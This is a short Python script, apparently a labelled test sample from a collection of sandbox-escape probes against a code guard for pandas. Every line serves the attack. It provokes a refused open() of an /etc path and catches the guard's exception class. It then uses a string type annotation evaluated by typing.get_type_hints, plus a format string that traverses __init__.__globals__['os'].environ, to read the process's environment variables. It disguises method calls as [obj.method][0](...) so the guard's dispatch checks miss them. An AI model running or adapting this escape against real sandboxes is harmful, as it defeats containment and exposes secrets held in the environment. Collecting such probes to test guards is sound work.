# class: exception_side_channel
# technique: the caught GuardRefusal's class formatted inside a get_type_hints annotation: {0.__init__.__globals__[os].environ}; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: read
import typing

import numpy as np
import pandas as pd

probe = pd.DataFrame({"a": [1]})
caught = None
try:
    [probe.agg][0](**{"func": "to_string", "buf": "/etc/anyplot-escape-probe"})   # an open() the guard refuses
except Exception as exc:
    caught = exc
if caught is None:
    raise RuntimeError("nothing was refused")
u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[os].environ}"
kept = []


class Grab:
    def __eq__(self, other):
        kept.append(other)
        return False

    def __hash__(self):
        return 0


Grab() == type(caught)
refused_class = kept[0]
out = []


def cell(x: "[out.append(template.format(refused_class)), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"environ": out})
